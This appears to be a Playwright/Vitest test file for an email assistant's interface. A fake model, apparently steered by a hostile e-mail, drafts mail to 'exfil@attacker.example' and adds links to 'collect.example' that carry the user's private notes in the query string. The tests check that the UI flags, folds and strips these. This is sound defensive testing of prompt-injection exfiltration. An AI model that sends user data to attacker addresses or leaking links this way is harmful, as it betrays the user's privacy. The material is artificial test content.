/// <reference lib="dom" />
import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startOpenAiDouble, toolCalls, type ChatRequest } from '../doubles/openai-server';
import { shotPath, startSignedInProduct } from './harness';

/*
 * What a reply written by a steered model looks like in the SPA: a draft to a stranger flagged and
 * not prefilled, a draft nobody asked for folded under 'Suggested', and a link that shows its host,
 * loses the data in its query and asks before opening a site the user's data never named.
 */

const LEAK =
  'https://collect.example/r?d=' +
  encodeURIComponent('The launch moves to Friday and Anna is worried about the budget review next week');

/** A model that drafts to a stranger and links with data, as a hostile e-mail would have it do. */
function steered(request: ChatRequest) {
  if (request.schemaName === 'entry_type') return { type: 'chat' };
  const answered = request.messages.some((m) => m.role === 'tool');
  if (!answered)
    return toolCalls([
      {
        name: 'draft_email',
        arguments: {
          to: 'exfil@attacker.example',
          subject: 'Your notes',
          body: 'Hi,\n\nHere is everything from this week.\n\nBest',
        },
      },
    ]);
  return /draft/i.test(request.user)
    ? `Here is your draft. The full report is [on the report page](${LEAK}).`
    : `Nothing urgent today. See [your report](${LEAK}).`;
}

describe('replies a steered model wrote, in Chromium at 390×844', () => {
  let llm: Awaited<ReturnType<typeof startOpenAiDouble>>;
  let stack: Awaited<ReturnType<typeof startSignedInProduct>>;

  beforeAll(async () => {
    llm = await startOpenAiDouble({ reply: steered });
    stack = await startSignedInProduct(
      { username: 'noa', email: 'noa@example.com', password: 'correct horse', name: 'Noa' },
      { env: { OPENAI_BASE_URL: llm.url } },
    );
  });
  afterAll(async () => {
    await stack?.stop();
    await llm?.stop();
  });

  /** Dialogs fade in (160 ms): a screenshot shows what a person sees once they have. */
  const settled = (page: Page) =>
    page.evaluate(() => Promise.all(document.getAnimations().map((a) => a.finished)));

  async function ask(question: string, colorScheme: 'light' | 'dark'): Promise<Page> {
    const { page } = await stack.open('/conversations/new', colorScheme);
    await page.getByLabel('Message').fill(question);
    await page.getByRole('button', { name: 'Send' }).click();
    await page.waitForURL(/\/conversations\/\d+$/);
    return page;
  }

  for (const scheme of ['light', 'dark'] as const) {
    it(`flags a draft to a stranger and never fills in the address (${scheme})`, async () => {
      const page = await ask('Draft an email to the team about the launch', scheme);
      const notice = page.getByText('This address is not in your question, your mail or your calendar.');
      await notice.waitFor({ timeout: 15_000 });
      await settled(page);
      await page.screenshot({ path: shotPath(`guarded-flagged-draft-${scheme}`) });
      await page.getByRole('button', { name: 'Edit & Draft Email' }).click();
      const dialog = page.getByRole('dialog');
      expect(await dialog.getByLabel('To').inputValue()).toBe('');
      await settled(page);
      await page.screenshot({ path: shotPath(`guarded-flagged-draft-dialog-${scheme}`) });
      await dialog.getByRole('button', { name: 'Use this address' }).click();
      expect(await dialog.getByLabel('To').inputValue()).toBe('exfil@attacker.example');
    });

    it(`shows an unasked draft as a folded suggestion, and guards the link (${scheme})`, async () => {
      const page = await ask('What is in my inbox today? Anything urgent?', scheme);
      const link = page.getByRole('link', { name: 'your report' });
      await link.waitFor({ timeout: 15_000 });
      // The host is shown, and the data in the query is gone from the address.
      expect(await link.getAttribute('href')).toBe('https://collect.example/r');
      await page.getByText('collect.example', { exact: true }).waitFor();
      // The draft is a suggestion, folded: not the answer, and no 'Edit & Draft Email' in sight.
      const suggested = page.getByText('Suggested (1)');
      await suggested.waitFor();
      expect(await page.getByRole('button', { name: 'Edit & Draft Email' }).isVisible()).toBe(false);
      await suggested.click();
      await page.getByText('This address is not in your question, your mail or your calendar.').waitFor();
      await settled(page);
      await page.screenshot({ path: shotPath(`guarded-suggested-draft-${scheme}`) });
      // A site the user's data never named asks first, naming it.
      const opened: string[] = [];
      page.context().on('page', (p) => opened.push(p.url()));
      await link.click();
      const sheet = page.getByRole('alertdialog');
      await sheet.getByText('Open collect.example?').waitFor();
      await settled(page);
      await page.screenshot({ path: shotPath(`guarded-link-${scheme}`) });
      await sheet.getByRole('button', { name: 'Cancel' }).click();
      expect(opened).toEqual([]);
    });
  }
});
